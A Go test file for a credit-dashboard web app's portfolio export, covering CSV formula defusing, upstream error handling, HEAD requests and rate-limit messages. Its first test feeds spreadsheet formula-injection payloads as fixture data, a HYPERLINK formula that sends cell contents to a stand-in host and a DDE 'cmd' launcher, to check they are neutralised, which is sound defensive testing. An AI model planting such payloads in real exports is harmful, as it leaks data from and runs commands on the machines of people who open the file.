package handlers_test

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"creditdash/internal/apptest"
	"creditdash/internal/upstream"
)

// A CSV export's text cells that a spreadsheet would run as formulas are
// marked as text; numbers, negative ones included, stay as they are.
func TestExportCSVDefusesFormulas(t *testing.T) {
	body := "BusinessId,Name,City,ZScore\n" +
		"1001,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",+cmd|' /C calc'!A0,-1.59\n" +
		"1002,@SUM(A1),-,+2.5\n" +
		"1003,Plain Name,\tTabbed,3\n"
	app := apptest.Start(t, apptest.Options{StandIn: oddExports(body)})
	p := app.SignIn(t, "demo").Get("/portfolio/export?format=csv")
	if p.Status != http.StatusOK {
		t.Fatalf("status %d, want 200", p.Status)
	}
	got, err := csv.NewReader(strings.NewReader(p.Body)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v", err)
	}
	want := [][]string{
		{"BusinessId", "Name", "City", "ZScore"},
		{"1001", `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "'+cmd|' /C calc'!A0", "-1.59"},
		{"1002", "'@SUM(A1)", "'-", "+2.5"},
		{"1003", "Plain Name", "'\tTabbed", "3"},
	}
	if len(got) != len(want) {
		t.Fatalf("%d records, want %d: %q", len(got), len(want), got)
	}
	for i := range want {
		if strings.Join(got[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("record %d = %q, want %q", i, got[i], want[i])
		}
	}
}

// The service's failure sent with a 200, as an envelope or a web page, is
// an error page with the service's words, never the analyst's file.
func TestExportFailureSentAsAFile(t *testing.T) {
	envelope := `{"Success":false,"Data":"The export could not be built.","ErrorCode":"InternalError"}`
	xmlEnvelope := `<?xml version="1.0"?><Response><Success>false</Success><Data>The export could not be built.</Data></Response>`
	for _, c := range []struct{ format, body, says string }{
		{"csv", envelope, "The export could not be built."},
		{"json", envelope, "The export could not be built."},
		{"xml", xmlEnvelope, "The export could not be built."},
		{"xml", "<!DOCTYPE html><html><body>Service maintenance</body></html>", ""},
		{"csv", `[{"BusinessId":1001}]`, ""},
	} {
		app := apptest.Start(t, apptest.Options{StandIn: oddExports(c.body)})
		p := app.SignIn(t, "demo").Get("/portfolio/export?format=" + c.format)
		if p.Status != http.StatusBadGateway || p.Header.Get("Content-Disposition") != "" || !strings.Contains(p.Body, c.says) {
			t.Errorf("%s export of %.30q: status %d, disposition %q; want a 502 page saying %q", c.format, c.body, p.Status, p.Header.Get("Content-Disposition"), c.says)
		}
	}
}

// HEAD of an export says what the file would be without downloading it:
// no request of the hour is spent.
func TestExportHeadDownloadsNothing(t *testing.T) {
	app := apptest.Start(t, apptest.Options{})
	u := app.SignIn(t, "ordinary")
	req, _ := http.NewRequest(http.MethodHead, app.URL+"/portfolio/export?format=csv", nil)
	p := u.Do(req)
	if p.Status != http.StatusOK || !strings.HasPrefix(p.Header.Get("Content-Disposition"), "attachment") {
		t.Errorf("HEAD: status %d, disposition %q; want 200 and an attachment", p.Status, p.Header.Get("Content-Disposition"))
	}
	if n := app.Sim.Requests()["ordinary"]["/v1/Portfolio/Download"]; n != 0 {
		t.Errorf("HEAD made %d downloads, want none", n)
	}
}

// refusedExports answers every export with a 429 that names no hour.
var refusedExports = intercept("/v1/Portfolio/Download", func(w http.ResponseWriter, _ *http.Request, _ http.Handler) {
	serviceAnswer(w, http.StatusTooManyRequests, upstream.CodeRateLimitExceeded, "Too many exports; try in 10 minutes.")
})

// An export refused with a 429 while the user's hour is not known to be
// spent says so in the service's words, not "no requests left this hour",
// and a typed ?export=busy claims nothing.
func TestExportRefusedWithoutASpentHour(t *testing.T) {
	app := apptest.Start(t, apptest.Options{StandIn: refusedExports})
	u := app.SignIn(t, "demo")
	p := u.Get("/portfolio/export?format=csv")
	if p.Status != http.StatusTooManyRequests || !strings.Contains(p.Body, "Too many exports; try in 10 minutes.") ||
		strings.Contains(p.Body, "this hour") || p.Header.Get("Content-Disposition") != "" {
		t.Errorf("a refused export: status %d, body %q; want 429 with the service's words and no claim about the hour", p.Status, p.Text("main"))
	}
	if b := u.Get("/portfolio?export=busy"); strings.Contains(b.Text("main"), "already have") {
		t.Error("a typed ?export=busy says exports are running when none is")
	}
}
